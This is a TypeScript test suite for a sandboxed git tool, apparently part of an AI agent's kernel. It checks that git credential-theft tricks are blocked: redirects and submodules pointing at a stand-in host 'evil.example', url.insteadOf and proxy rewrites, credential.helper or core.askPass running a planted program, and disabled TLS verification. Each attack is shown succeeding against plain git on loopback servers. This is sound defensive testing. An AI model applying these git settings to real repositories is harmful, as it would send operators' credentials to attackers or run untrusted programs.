// Remotes and repositories that are out to get the operator's credential, to be reached unseen, or to take all that
// there is. Each attack works with plain git or without the one defence, in a directory and on loopback servers that
// the test made; through the kernel it does nothing.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, rmSync, writeFileSync } from "node:fs";
import type { RequestListener } from "node:http";
import { connect } from "node:net";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { secureWay } from "../../../../src/kernel/handles/git-egress.ts";
import { type GitRemotes, NO_GIT_REMOTES } from "../../../../src/model/work/git-remote.ts";
import { AttemptLog } from "../../../../src/sandbox/net/gate/attempt.ts";
import { EgressProxy } from "../../../../src/sandbox/net/proxy/egress-proxy.ts";
import { Places } from "../../../../src/sandbox/net/proxy/places.ts";
import { git } from "../../../../src/tools/git/git.ts";
import { type Certificate, newCertificate } from "../../../support/certificate.ts";
import { allowing, Internet } from "../../../support/egress.ts";
import { plainGit } from "../../../support/git-place.ts";
import { gitServer, seed } from "../../../support/git-server.ts";
import { type MemoryKernelOptions, memoryKernel } from "../../../support/memory-kernel.ts";
import { noise } from "../../../support/noise.ts";
import { freshPlace } from "../../../support/place.ts";
import { testedBackend } from "../../../support/sandbox-place.ts";

const LOGIN = { username: "bot", password: "hB5-marble-window-93" };
const VALUE = `Basic ${Buffer.from(`${LOGIN.username}:${LOGIN.password}`).toString("base64")}`;
const HOST = "git.example";
const OTHER = "evil.example";
const ADDRESS = `https://${HOST}/team/service.git`;

interface World {
  readonly internet: Internet;
  readonly certificate: Certificate;
  readonly directory: string;
  /** What `OTHER` was sent as `Authorization`, one for each request. */
  readonly stolen: (string | undefined)[];
  /** Options of plain git, by which it finds both servers and believes them. */
  readonly options: readonly string[];
}

/** Two hosts: the operator's, which `listener` plays, and another that keeps what it is told. */
async function world(listener: RequestListener): Promise<World> {
  const place = freshPlace();
  const internet = new Internet();
  onTestFinished(() => internet.close());
  const certificate = newCertificate(join(place.base, "tls"), HOST, OTHER);
  const stolen: (string | undefined)[] = [];
  await internet.https(HOST, 443, certificate, listener);
  await internet.https(OTHER, 8443, certificate, ({ headers }, response) => {
    stolen.push(headers.authorization ?? (headers["private-token"] as string | undefined));
    response.writeHead(404).end();
  });
  const port = (name: string) => [...internet.servers].find(([key]) => key.endsWith(name))?.[1];
  // plain git reaches the servers at their ports on loopback
  const options = [
    ...["-c", `http.sslCAInfo=${certificate.certFile}`],
    ...[
      "-c",
      `http.curloptResolve=${HOST}:${port(":443")}:127.0.0.1`,
      "-c",
      `http.curloptResolve=${OTHER}:${port(":8443")}:127.0.0.1`,
    ],
  ];
  return { internet, certificate, directory: place.base, stolen, options };
}

/** Plain git beside this process, which plays the servers. */
async function plainly(directory: string, ...args: readonly string[]): Promise<void> {
  const environment = {
    PATH: process.env["PATH"] ?? "/usr/bin:/bin",
    HOME: "/nonexistent",
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_TERMINAL_PROMPT: "0",
  };
  const child = spawn("git", [...args], { cwd: directory, env: environment, stdio: "ignore", timeout: 120_000 });
  await once(child, "close");
}

function remotesOf(certificate: Certificate): GitRemotes {
  return {
    ...NO_GIT_REMOTES,
    authorization: ({ host, port }) => (host === HOST && port === 443 ? VALUE : undefined),
    authorities: () => certificate.cert,
  };
}

async function kernelOf({ internet, certificate }: World, options: Partial<MemoryKernelOptions> = {}) {
  const kernel = await memoryKernel({
    tools: [git],
    preset: "open",
    backend: testedBackend,
    session: { role: "release_manager" },
    network: internet.network,
    gitRemotes: remotesOf(certificate),
    ...options,
  });
  const ask = async (
    operation: string,
    args: readonly string[],
    cwd?: string,
    signal?: AbortSignal,
  ): Promise<string> => {
    const { outcome } = await kernel.call(
      "git",
      { operation, args, ...(cwd !== undefined && { cwd }) },
      signal ? { signal } : {},
    );
    if (kernel.internalErrors.length > 0) throw kernel.internalErrors[0];
    if (outcome.kind === "denied") return `${outcome.denial.reason}: ${outcome.denial.message}`;
    return outcome.kind === "error"
      ? `${outcome.code}: ${outcome.message}`
      : `success: ${JSON.stringify(outcome.data)}`;
  };
  return { kernel, ask };
}

/** The first of what a proxy answers. */
async function firstOf(path: string, bytes: string): Promise<string> {
  const socket = connect({ path });
  socket.write(bytes);
  const [piece] = (await once(socket, "data")) as [Buffer];
  socket.destroy();
  return piece.toString("latin1");
}

/** Where the server of `name` listens on loopback. */
function loopback({ internet }: World, port: number): number {
  return [...internet.servers].find(([key]) => key.endsWith(`:${port}`))?.[1] ?? 0;
}

describe("a credential goes to its host alone", () => {
  test("a remote that sends elsewhere is not followed; plain git takes what it was told along", async () => {
    const listener: { current: RequestListener } = { current: () => undefined };
    const at = await world((request, response) => listener.current(request, response));
    listener.current = ({ url }, response) =>
      response.writeHead(302, { location: `https://${OTHER}:${loopback(at, 8443)}${url}` }).end();
    const plain = plainGit(at.directory);
    const own = `https://${HOST}:${loopback(at, 443)}/team/service.git`;
    await plainly(
      plain.directory,
      ...at.options,
      "-c",
      "http.followRedirects=true",
      "-c",
      `http.extraHeader=Private-Token: ${VALUE}`,
      "ls-remote",
      own,
    );
    expect(at.stolen).toEqual([VALUE]);

    at.stolen.length = 0;
    listener.current = ({ url }, response) =>
      response.writeHead(302, { location: `https://${OTHER}:8443${url}` }).end();
    const { ask } = await kernelOf(at);
    expect(await ask("CLONE", [ADDRESS, "service"])).toMatch(/^GIT_FAILED: .*returned error: 302/);
    expect([at.stolen, at.internet.lookedUp]).toEqual([[], [HOST]]);
  });

  test("another host that asks who one is gets nothing; plain git with one credential for all tells it", async () => {
    const at = await world((_, response) => response.writeHead(404).end());
    const asking: RequestListener = ({ headers }, response) => {
      at.stolen.push(headers.authorization);
      response.writeHead(401, { "www-authenticate": `Basic realm="${HOST}"` }).end();
    };
    await at.internet.https(OTHER, 8443, at.certificate, asking);
    const helper = `!f() { echo username=${LOGIN.username}; echo password=${LOGIN.password}; }; f`;
    const port = at.internet.servers.get("93.184.216.34:8443") ?? 0;
    const where = [
      "-c",
      `http.sslCAInfo=${at.certificate.certFile}`,
      "-c",
      `http.curloptResolve=${OTHER}:${port}:127.0.0.1`,
    ];
    await plainly(
      at.directory,
      ...where,
      "-c",
      `credential.helper=${helper}`,
      "ls-remote",
      `https://${OTHER}:${port}/x.git`,
    );
    expect(at.stolen).toContain(VALUE);

    at.stolen.length = 0;
    const { ask } = await kernelOf(at);
    expect(await ask("CLONE", [`https://${OTHER}:8443/x.git`])).toMatch(
      /^GIT_FAILED: [\s\S]*could not read Username for .https:\/\/evil\.example:8443/,
    );
    expect(at.stolen).toEqual([undefined]);
  });
});

describe("a repository's own settings about remotes have no effect", () => {
  async function cloned() {
    const place = freshPlace();
    const server = gitServer(join(place.base, "served"));
    const bare = server.add("team/service.git");
    seed(bare, join(place.base, "seed"), { "a.txt": "alpha\n" });
    const at = await world(server.listener);
    const { kernel, ask } = await kernelOf(at);
    expect(await ask("CLONE", [ADDRESS, "service"])).toMatch(/^success/);
    const plain = plainGit(join(kernel.root, "service"));
    const fetched = async () => ask("FETCH", [], "service");
    return { at, plain, fetched, kernel, bare };
  }

  test("url.insteadOf", async () => {
    const { at, plain, fetched } = await cloned();
    plain.git("config", `url.https://${OTHER}:${loopback(at, 8443)}/.insteadOf`, `https://${HOST}/`);
    await plainly(plain.directory, ...at.options, "fetch");
    expect(at.stolen.length).toBeGreaterThan(0);
    at.stolen.length = 0;
    expect(await fetched()).toMatch(/^success/);
    expect(at.stolen).toEqual([]);
  });

  test("http.proxy and remote.origin.proxy", async () => {
    const { at, plain, fetched } = await cloned();
    let proxied = 0;
    await at.internet.tcp("proxy.example", 3000, (socket) => {
      proxied += 1;
      socket.destroy();
    });
    for (const name of ["http.proxy", "remote.origin.proxy"]) {
      plain.git("config", name, `http://127.0.0.1:${loopback(at, 3000)}`);
      proxied = 0;
      await plainly(plain.directory, "fetch");
      expect(proxied).toBeGreaterThan(0);
      proxied = 0;
      expect(await fetched()).toMatch(/^success/);
      expect(proxied).toBe(0);
      plain.git("config", "--unset", name);
    }
  });

  test.each(["credential.helper", "core.gitProxy", "core.askPass"])("%s runs no program", async (name) => {
    const { at, plain, fetched, kernel } = await cloned();
    const trace = join(kernel.root, "TRACE");
    const program = join(kernel.root, "program.sh");
    writeFileSync(program, `#!/bin/sh\ntouch "${trace}"\n`, { mode: 0o755 });
    plain.git("config", name, program);
    const asks = gitServer(join(at.directory, "served-2"), LOGIN);
    await at.internet.https(HOST, 443, at.certificate, asks.listener);
    const port = loopback(at, 443);
    const where = [
      "-c",
      `http.sslCAInfo=${at.certificate.certFile}`,
      "-c",
      `http.curloptResolve=${HOST}:${port}:127.0.0.1`,
    ];
    if (name === "core.gitProxy") await plainly(plain.directory, "ls-remote", `git://127.0.0.1:${port}/x`);
    else await plainly(plain.directory, ...where, "ls-remote", `https://${HOST}:${port}/team/service.git`);
    expect(existsSync(trace)).toBe(true);
    rmSync(trace, { force: true });
    await fetched();
    expect([existsSync(trace), asks.requests.at(-1)?.authorization]).toEqual([false, VALUE]);
  });

  test("http.sslVerify: a server that does not prove who it is is not spoken to", async () => {
    const { at, plain, fetched } = await cloned();
    const reached: string[] = [];
    const liar = newCertificate(join(at.directory, "liar"), HOST);
    await at.internet.https(HOST, 443, liar, ({ url = "" }, response) => {
      reached.push(url);
      response.writeHead(404).end();
    });
    plain.git("config", "http.sslVerify", "false");
    const port = loopback(at, 443);
    await plainly(
      plain.directory,
      "-c",
      `http.curloptResolve=${HOST}:${port}:127.0.0.1`,
      "ls-remote",
      `https://${HOST}:${port}/team/service.git`,
    );
    expect(reached.length).toBeGreaterThan(0);
    reached.length = 0;
    expect(await fetched()).toMatch(/was not reached \(certificate\)/);
    expect(reached).toEqual([]);
  });

  test("a submodule's address is not followed", async () => {
    const { at, plain, kernel, bare } = await cloned();
    const other = plainGit(join(kernel.root, "service"));
    other.put(".gitmodules", `[submodule "x"]\n\tpath = x\n\turl = https://${OTHER}:${loopback(at, 8443)}/x.git\n`);
    const head = other.git("rev-parse", "HEAD").trim();
    other.git("update-index", "--add", "--cacheinfo", `160000,${head},x`);
    other.commit("with a submodule", {
      ".gitmodules": `[submodule "x"]\n\tpath = x\n\turl = https://${OTHER}:${loopback(at, 8443)}/x.git\n`,
    });
    other.git("push", "--quiet", bare.directory, "HEAD:main");
    await plainly(plain.directory, ...at.options, "clone", "--quiet", "--recurse-submodules", bare.directory, "again");
    expect(at.stolen.length).toBeGreaterThan(0);
    at.stolen.length = 0;
    const { ask } = await kernelOf(at);
    expect(await ask("CLONE", [ADDRESS, "whole"])).toMatch(/^success/);
    expect(await ask("FETCH", [], "whole")).toMatch(/^success/);
    expect([at.stolen, at.internet.connected.filter((to) => to.endsWith(":8443"))]).toEqual([[], []]);
  });
});

describe("whatever runs in the sandbox, a run says to a remote what it was allowed to", () => {
  /** A proxy as a run of git has it, and requests that something else in the sandbox makes. */
  async function proxyOf(at: World, secure: boolean) {
    const reach = {
      address: ADDRESS,
      host: HOST,
      port: 443,
      path: "/team/service.git",
      service: "git-upload-pack",
    } as const;
    const places = { clients: new Places(8), upstreams: new Places(8) };
    const way = secure ? { secure: secureWay(reach, remotesOf(at.certificate)) } : {};
    const proxy = new EgressProxy({
      rules: { decide: allowing(`${HOST}:443`), blockedPorts: [], ...way },
      network: at.internet.network,
      log: new AttemptLog(() => undefined),
      places,
    });
    const path = join(at.directory, secure ? "secure" : "plain");
    await proxy.listen(path);
    onTestFinished(async () => void (await proxy.close()));
    return async (line: string, ...headers: readonly string[]) =>
      (
        await firstOf(path, `${line} HTTP/1.1\r\nHost: ${HOST}:443\r\nConnection: close\r\n${headers.join("")}\r\n`)
      ).split("\r\n")[0];
  }

  test("a fetch does not push, nothing else is asked, no tunnel is opened, and no other name is told", async () => {
    const seen: string[] = [];
    const at = await world(({ method, url, headers }, response) => {
      seen.push(
        `${method} ${url} ${headers.authorization === VALUE ? "ours" : headers.authorization} ${headers.cookie ?? ""}`.trim(),
      );
      response.end("ok");
    });
    const say = await proxyOf(at, true);
    const base = `http://${HOST}:443/team/service.git`;
    const refused = [
      `POST ${base}/git-receive-pack`,
      `GET ${base}/info/refs?service=git-receive-pack`,
      `GET ${base}/info/refs`,
      `DELETE ${base}/info/refs?service=git-upload-pack`,
      `GET http://${HOST}:443/team/other.git/info/refs?service=git-upload-pack`,
      `GET http://${HOST}:443/api/v4/user`,
      `GET ${base}/../other.git/info/refs?service=git-upload-pack`,
      `GET ${base}/info/refs?service=git-upload-pack&x=1`,
      `CONNECT ${HOST}:443`,
    ];
    for (const line of refused) expect([line, await say(line)]).toEqual([line, "HTTP/1.1 403 Forbidden"]);
    expect(seen).toEqual([]);
    const wanted = `GET ${base}/info/refs?service=git-upload-pack`;
    expect(await say(wanted, "Authorization: Basic YTpi\r\n", "Cookie: who=me\r\n")).toBe("HTTP/1.1 200 OK");
    expect(seen).toEqual(["GET /team/service.git/info/refs?service=git-upload-pack ours"]);
    // without the way a command that may reach the host may also tunnel to it, and say what it likes
    const tunnel = await proxyOf(at, false);
    expect(await tunnel(`CONNECT ${HOST}:443`)).toBe("HTTP/1.1 200 Connection established");
  });
});

describe("what a remote may take is bounded", () => {
  test("a pack larger than a file may be is not kept, and the clone leaves nothing; without the bound it is", async () => {
    const place = freshPlace();
    const server = gitServer(join(place.base, "served"));
    seed(server.add("team/service.git"), join(place.base, "seed"), { "big.bin": noise(2_000_000).toString("hex") });
    const at = await world(server.listener);
    const bounded = await kernelOf(at, { sandbox: { file_mb: 1 } });
    expect(await bounded.ask("CLONE", [ADDRESS, "service"])).toMatch(/^GIT_FAILED/);
    expect(existsSync(join(bounded.kernel.root, "service/.git/HEAD"))).toBe(false);
    const free = await kernelOf(at);
    expect(await free.ask("CLONE", [ADDRESS, "service"])).toMatch(/^success/);
  });

  test("a server that says nothing is given up when the call is, and leaves nothing", async () => {
    const at = await world(() => undefined);
    const { kernel, ask } = await kernelOf(at);
    const hanging = await new Promise<boolean>((resolve) => {
      const socket = connect({ host: "127.0.0.1", port: loopback(at, 443) });
      socket.setTimeout(500, () => resolve(true));
      socket.once("close", () => resolve(false));
      onTestFinished(() => void socket.destroy());
    });
    expect(hanging).toBe(true);
    expect(await ask("CLONE", [ADDRESS, "service"], undefined, AbortSignal.timeout(2500))).toMatch(
      /^(?:CANCELLED|OUTCOME_UNKNOWN)/,
    );
    expect(existsSync(join(kernel.root, "service/.git/HEAD"))).toBe(false);
  });
});
